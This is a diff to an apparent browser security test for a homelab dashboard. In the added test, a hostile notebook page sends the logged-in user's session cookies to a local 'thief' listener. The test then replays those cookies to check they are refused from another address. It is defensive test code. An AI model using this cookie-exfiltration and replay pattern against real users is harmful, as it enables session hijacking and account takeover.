@@ -1,6 +1,6 @@
 import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
 import { text } from 'node:stream/consumers';
-import { type Browser, chromium } from '@playwright/test';
+import { type Browser, chromium, type Page } from '@playwright/test';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { createSession } from '../../server/auth/sessions.ts';
 import { createDoor } from '../../server/dashboard/internal/router.ts';
@@ -9,9 +9,9 @@ import { experiments } from '../../server/db/schema/index.ts';
 import { enterWorkspace } from '../../server/services/workspaces/enter-workspace.ts';
 import { handleTrpc } from '../../server/trpc/handler.ts';
 import { type FrontDoor, startFrontDoor } from '../integration/support/front-door.ts';
-import { startEcho } from '../integration/support/http.ts';
+import { send, startEcho } from '../integration/support/http.ts';
 import { createTestDatabase, type TestDatabase } from '../integration/support/test-database.ts';
-import { attack, type Targets } from './hostile-page.ts';
+import { attack, callHome, type Targets } from './hostile-page.ts';
 
 const LIMITS = { memoryHighBytes: 1, memoryMaxBytes: 1, cpuPercent: 100, tasksMax: 1 };
 
@@ -60,6 +60,19 @@ async function startHostileWorkspace(): Promise<void> {
   servers.push(server);
 }
 
+/** A listener of the experiment's own, on whatever port of the machine it likes, that keeps the cookies it is sent. */
+async function startThief(): Promise<{ port: number; cookies: () => string }> {
+  let cookies = '';
+  const server = createServer((asked, answer) => {
+    cookies = asked.headers.cookie ?? '';
+    answer.end();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  servers.push(server);
+  const address = server.address();
+  return { port: typeof address === 'object' ? (address?.port ?? 0) : 0, cookies: () => cookies };
+}
+
 beforeAll(async () => {
   database = await createTestDatabase();
   await database.db.insert(experiments).values({ name: 'alpha', owner: 'alice', state: 'ready', limits: LIMITS });
@@ -86,11 +99,11 @@ afterAll(async () => {
 describe.each(['homelab.test', 'localhost'])('a notebook opened at %s', (host) => {
   const origin = (port: number) => `http://${host}:${port}`;
 
-  test('learns and changes nothing as the person who opened it, while the dashboard’s own page works', async () => {
-    const person = { username: 'alice', admin: false, address: '192.0.2.1', userAgent: 'test' };
+  /** Alice, logged in, with the hostile notebook open in her browser. */
+  async function openNotebook(): Promise<{ page: Page; token: string }> {
+    const person = { username: 'alice', admin: false, address: '127.0.0.1', userAgent: 'test' };
     const { token, session } = await createSession(database.db, person);
     const actor = { kind: 'user', username: 'alice', admin: false, sessionId: session.id } as const;
-    const stranger = await createSession(database.db, { ...person, username: 'mallory' });
     const context = await browser.newContext();
     await context.addCookies([
       { name: 'hp_session', value: token, domain: host, path: '/', httpOnly: true, sameSite: 'Strict' },
@@ -101,7 +114,13 @@ describe.each(['homelab.test', 'localhost'])('a notebook opened at %s', (host) =
     reached.length = 0;
     await page.goto(origin(door.ports.workspaces) + path);
     expect(await page.title()).toBe('Notebook');
+    return { page, token };
+  }
 
+  test('learns and changes nothing as the person who opened it, while the dashboard’s own page works', async () => {
+    const { page, token } = await openNotebook();
+    const mallory = { username: 'mallory', admin: false, address: '127.0.0.1', userAgent: 'test' };
+    const stranger = await createSession(database.db, mallory);
     const targets: Targets = {
       dashboard: origin(door.ports.dashboard),
       git: origin(door.ports.git),
@@ -134,6 +153,29 @@ describe.each(['homelab.test', 'localhost'])('a notebook opened at %s', (host) =
       ({ name }) => name === `own-${host.replace('.', '-')}`,
     );
     expect(own?.owner).toBe('alice');
-    await context.close();
+    await page.context().close();
+  });
+
+  test('gets that person’s cookies by a port of its own, and they are worth nothing from another address', async () => {
+    const { page, token } = await openNotebook();
+    const thief = await startThief();
+    await page.evaluate(callHome, `${origin(thief.port)}/user/alpha/picture.png`);
+    const stolen = thief.cookies();
+    expect(stolen).toContain(`hp_session=${token}`);
+    expect(stolen).toMatch(/hp_workspace=[\w-]{43}/);
+
+    const replay = async (from: string) => {
+      const asked = (port: number, path: string) => send(port, path, { headers: [['Cookie', stolen]], from });
+      const { dashboard, workspaces, git } = door.ports;
+      const replies = [
+        await asked(dashboard, '/api/trpc/experiments.list'),
+        await asked(workspaces, '/user/alpha/lab/'),
+        await asked(git, '/alice'),
+      ];
+      return replies.map(({ status }) => status);
+    };
+    expect(await replay('127.0.0.2')).toEqual([401, 403, 403]);
+    expect(await replay('127.0.0.1')).toEqual([200, 200, 200]); // they were the right ones, and they still live
+    await page.context().close();
   });
 });
